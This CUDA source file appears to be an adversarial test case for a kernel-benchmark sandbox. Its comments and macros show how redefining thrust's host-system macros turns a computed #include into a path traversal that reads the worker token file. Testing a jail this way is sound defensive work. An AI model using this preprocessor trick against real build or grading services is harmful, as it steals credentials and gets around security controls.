// Attack: kbd's worker token (DATA_DIR/worker.token) through a CCCL header.
// thrust's computed "#include __THRUST_HOST_SYSTEM_..._HEADER" is
// <__THRUST_HOST_SYSTEM_ROOT/...>, ROOT built from
// __THRUST_HOST_SYSTEM_NAMESPACE, which an unknown THRUST_HOST_SYSTEM leaves
// to the user: it walks out of thrust/system/cpp/ with '..' and ends the
// header name early with '>'. The source policy never sees a path: only
// the jail stands in the way.
// clang-format off
#define THRUST_HOST_SYSTEM 99
#define __THRUST_HOST_SYSTEM_NAMESPACE cpp/../../../../../../../../../../..@DATA_DIR@/worker.token>
#include <thrust/system/detail/adl/fill.h>
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = 1; }
